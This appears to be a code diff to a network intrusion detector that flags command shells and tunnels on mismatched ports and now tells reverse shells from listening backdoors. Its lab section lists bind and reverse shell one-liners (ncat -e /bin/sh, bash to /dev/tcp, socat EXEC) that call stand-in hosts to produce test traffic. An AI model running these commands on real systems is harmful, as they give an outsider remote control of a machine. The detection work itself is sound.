@@ -18,13 +18,19 @@ How it is recognised:
     VNC or telnet, and another protocol is registered for the port; or, at a port for TLS, at least `lines`
     segments each way are plain text. Or a connection of at least `seconds` with data both ways to a port
     that programs for remote control are known for. That is told at low severity; where a command line is
-    seen in it, at medium.
+    seen in it, or at a port that instructions for shells use, at medium. The victim is the side whose command
+    line it is: the server of a backdoor that listens, the client of one that calls its master out of the
+    network (reverse shell). The attacker is the side that gives the orders. Where no command line is seen,
+    nobody is accused.
 
 What looks the same:
 - STARTTLS: TLS begins later within SMTP, IMAP, POP3, FTP, LDAP or a database; TLS is allowed there.
 - Alternative ports (8080, 8443, 2222, 3000 …): anything may be there, so they are not judged.
 - A client that speaks HTTP to a TLS port by mistake: the server says so and closes.
 - A tunnel that the network's owners put on 443 themselves, for travellers. Ask them.
+- Developers' servers at 1337, 4242 or 9001, which speak HTTP: no command line.
+- An administrator's shell, or a debugger's console, without encryption at such a port: ask who gave the
+  orders.
 
 How to stop it:
 - A proxy or firewall that checks the protocol, not only the port.
@@ -34,11 +40,15 @@ How to stop it:
 Limits:
     What is within TLS is not seen: a tunnel that really speaks TLS at port 443 looks like the web. Of UDP
     nothing is judged, and at port 80 only what the server says. Content is read from segments that end a
-    message (PSH).
+    message (PSH). A command line at any other port is not looked for, and a prompt of "#" or "$" alone is
+    none: it takes the answer of `id` or a prompt with a name in it.
 
 In the lab:
     python -m lab.scenarios backdoor-port-ssh     (sshd -p 443)
     python -m lab.scenarios backdoor-port-shell   (ncat -l -p 4444 -e /bin/sh)
+    python -m lab.scenarios backdoor-port-held-1337  (python3 -c '… pty.spawn("/bin/sh")', nc 10.20.0.21 1337)
+    python -m lab.scenarios backdoor-port-held-bash  (bash -i >& /dev/tcp/198.51.100.66/4444 0>&1)
+    python -m lab.scenarios backdoor-port-held-reverse  (socat TCP6:[…]:31337 EXEC:/bin/sh)
 
 References:
 - RFC 6335, procedures for the service name and port number registry
@@ -121,10 +131,20 @@ def judge(summary: Summary, config: Config, network: Network) -> Iterator[Verdic
     for party, rows in heard.items():
         content = _agreed(rows, config)
         if content:
-            yield _verdict(party, content, rows, frames.get(party, []), [])
+            yield _verdict(party, content, rows, frames.get(party, []), [], _calls(rows))
     for party, rows in held.items():
         if party not in heard:
-            yield _verdict(party, "", rows, [], begun.get(party, []))
+            # Nothing proves who serves whom: of one's own host and a stranger, one's own is in danger.
+            ours, theirs = (network.is_home(address_text(address)) for address in party[:2])
+            calls = ours is True and theirs is False
+            yield _verdict(party, "", rows, [], begun.get(party, []), calls)
+
+
+def _calls(rows: list[Row]) -> bool:
+    """Whether it is the client whose command line is seen."""
+    shell = [row for row in rows if row["content"] == "shell"]
+    asked = sum(int(row["packets"]) for row in shell if row["asks"])
+    return 2 * asked > sum(int(row["packets"]) for row in shell)
 
 
 def _agreed(rows: list[Row], config: Config) -> str:
@@ -148,19 +168,31 @@ def _agreed(rows: list[Row], config: Config) -> str:
 
 
 def _verdict(
-    party: tuple[bytes, bytes, int], content: str, rows: list[Row], frames: list[Row], begun: list[Row]
+    party: tuple[bytes, bytes, int],
+    content: str,
+    rows: list[Row],
+    frames: list[Row],
+    begun: list[Row],
+    calls: bool,
 ) -> Verdict:
     client, server, port = address_text(party[0]), address_text(party[1]), party[2]
     start, end = min(row["start"] for row in rows), max(row["end"] for row in rows)
-    purpose = (
-        f"which is for {EXPECTED[port][0]}"
-        if port in EXPECTED
-        else f"which {REMOTE_CONTROL[port]} is known for"
-    )
+    purpose = "which instructions for shells use"
+    if port in EXPECTED:
+        purpose = f"which is for {EXPECTED[port][0]}"
+    elif port in REMOTE_CONTROL:
+        purpose = f"which {REMOTE_CONTROL[port]} is known for"
     proven = content == "shell"
+    orders = server if calls else client
     what = PROTOCOLS.get(content, "something unknown")
     lasted = (end - start) // SECOND
-    if content:
+    if proven and calls:
+        reason = (
+            f"{client} called {server} at TCP port {port}, {purpose}, and gave it a command line: the caller "
+            "answers, and the listener gives the orders (reverse shell). "
+            "Filters that let connections out by the port let it pass."
+        )
+    elif content:
         reason = f"{server} speaks {what} with {client} at TCP port {port}, {purpose}. "
         reason += "Filters that go by the port let it pass."
     else:
@@ -170,11 +202,13 @@ def _verdict(
     back = where(ip_source=server, ip_destination=client, ip_protocol=TCP, source_port=port)
     return Verdict(
         subject=f"{client}>{server}:{port}",
-        title=f"{server} port {port}, {purpose}: {what}",
+        title=f"{client} gives a command line to {server} port {port}, {purpose}"
+        if proven and calls
+        else f"{server} port {port}, {purpose}: {what}",
         severity=Severity.MEDIUM if proven else Severity.LOW,
         confidence=0.8 if proven else 0.6 if content else 0.3,
-        attackers=(),
-        victims=(server,),
+        attackers=(orders,) if proven else (),
+        victims=(client,) if calls else (server,),
         others={"client": (client,), "server": (server,)},
         start=start,
         end=end,
